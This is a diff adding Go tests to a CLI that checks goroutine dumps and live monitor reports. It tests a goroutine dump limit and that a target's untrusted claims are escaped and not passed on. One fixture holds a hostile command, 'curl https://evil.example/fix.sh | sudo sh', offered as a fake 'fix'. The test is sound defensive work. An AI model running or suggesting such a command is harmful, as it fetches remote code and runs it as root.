@@ -2,20 +2,26 @@ package cli
 
 import (
 	"bufio"
+	"bytes"
 	"context"
 	"encoding/json"
 	"fmt"
+	"io"
 	"net/http"
 	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"runtime/pprof"
 	"slices"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"syscall"
 	"testing"
 	"time"
+
+	pprofpb "github.com/google/pprof/profile"
 
 	"github.com/schedoctor/schedoctor/finding"
 	"github.com/schedoctor/schedoctor/internal/lab"
@@ -134,6 +140,11 @@ func TestCheckPartial(t *testing.T) {
 	}
 	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		if r.URL.Path == "/debug/pprof/goroutine" {
+			if r.URL.Query().Get("debug") == "0" {
+				// The count before the dump: this process's own profile.
+				pprof.Lookup("goroutine").WriteTo(w, 0)
+				return
+			}
 			w.Write(dump)
 			return
 		}
@@ -228,4 +239,88 @@ func TestCheckLabService(t *testing.T) {
 	what := strings.Join(problems, "; ")
 	m.SkipIfBusy(t, "%s", what)
 	t.Error(what)
+}
+
+// TestCheckManyGoroutinesSaysSo: the CLI names what it did not take and
+// the flag that sets the limit; raising the limit takes the full dumps.
+func TestCheckManyGoroutinesSaysSo(t *testing.T) {
+	// A goroutine profile claiming 50,000 goroutines at one stack.
+	fn := &pprofpb.Function{ID: 1, Name: "main.worker", Filename: "/src/main.go"}
+	loc := &pprofpb.Location{ID: 1, Address: 0x1000, Line: []pprofpb.Line{{Function: fn, Line: 10}}}
+	p := &pprofpb.Profile{SampleType: []*pprofpb.ValueType{{Type: "goroutine", Unit: "count"}},
+		PeriodType: &pprofpb.ValueType{Type: "goroutine", Unit: "count"}, Period: 1,
+		Sample:   []*pprofpb.Sample{{Value: []int64{50_000}, Location: []*pprofpb.Location{loc}}},
+		Location: []*pprofpb.Location{loc}, Function: []*pprofpb.Function{fn}}
+	var proto bytes.Buffer
+	if err := p.Write(&proto); err != nil {
+		t.Fatal(err)
+	}
+	var full atomic.Int64
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case r.URL.Path == "/debug/pprof/goroutine" && r.URL.Query().Get("debug") == "0":
+			w.Write(proto.Bytes())
+		case r.URL.Path == "/debug/pprof/goroutine" && r.URL.Query().Get("debug") == "2":
+			full.Add(1)
+			io.WriteString(w, "goroutine 1 [running]:\nmain.main()\n\t/src/main.go:3 +0x1\n")
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer srv.Close()
+	code, stdout, stderr := run(t, "", "check", "-q", "-seconds", "1", "-live", "", srv.URL)
+	if code == ExitError || full.Load() != 0 || !strings.Contains(stderr, "50000 goroutines, at or over the limit of 1000") ||
+		!strings.Contains(stderr, "-max-dump-goroutines") || !strings.Contains(stdout, "goroutine-start not taken") {
+		t.Errorf("exit %d, %d full dumps\nstdout %s\nstderr %s", code, full.Load(), stdout, stderr)
+	}
+	code, _, stderr = run(t, "", "check", "-q", "-seconds", "1", "-live", "", "-max-dump-goroutines", "100000", srv.URL)
+	if code == ExitError || full.Load() != 2 {
+		t.Errorf("-max-dump-goroutines 100000: exit %d, %d full dumps; want 2\n%s", code, full.Load(), stderr)
+	}
+}
+
+// TestCheckLiveClaimsShownAsTheTargets: a target's live monitor that
+// claims a critical finding with its own "fix" (a command to run) is shown
+// in the text and the HTML report as the target's claim, escaped, with the
+// catalog's fix, never the target's; -json marks it with the source live.
+func TestCheckLiveClaimsShownAsTheTargets(t *testing.T) {
+	rep := map[string]any{"source": "live", "summary": map[string]any{}, "findings": []map[string]any{{
+		"rule": "SD703", "severity": "critical", "message": "critical <b>host compromised</b>\x1b[2J",
+		"fix": "curl https://evil.example/fix.sh | sudo sh", "locations": []any{}, "evidence": []any{},
+	}}}
+	body, err := json.Marshal(rep)
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/debug/schedoctor/" {
+			w.Header().Set("Content-Type", "application/json")
+			w.Write(body)
+			return
+		}
+		http.NotFound(w, r)
+	}))
+	defer srv.Close()
+	html := filepath.Join(t.TempDir(), "r.html")
+	code, stdout, stderr := run(t, "", "check", "-q", "-seconds", "1", "-html", html, srv.URL)
+	if code != ExitFindings || !strings.Contains(stdout, "SD703 thread-growth: the target's live monitor reports: critical") ||
+		strings.Contains(stdout, "curl") || strings.Contains(stdout, "\x1b") {
+		t.Errorf("exit %d\nstdout %s\nstderr %s", code, stdout, stderr)
+	}
+	page, err := os.ReadFile(html)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(page), "curl https://evil") || strings.Contains(string(page), "<b>host compromised") ||
+		!strings.Contains(string(page), "the target&#39;s live monitor reports") && !strings.Contains(string(page), "the target\\u0027s live monitor reports") {
+		t.Errorf("the HTML report shows the claim as ours or unescaped")
+	}
+	_, stdout, _ = run(t, "", "check", "-q", "-seconds", "1", "-json", srv.URL)
+	var r checkJSON
+	if err := json.Unmarshal([]byte(stdout), &r); err != nil {
+		t.Fatal(err)
+	}
+	if len(r.Findings) != 1 || !slices.Equal(r.Findings[0].Sources, []string{"live"}) {
+		t.Errorf("-json findings %+v; want the claim with the source live", r.Findings)
+	}
 }
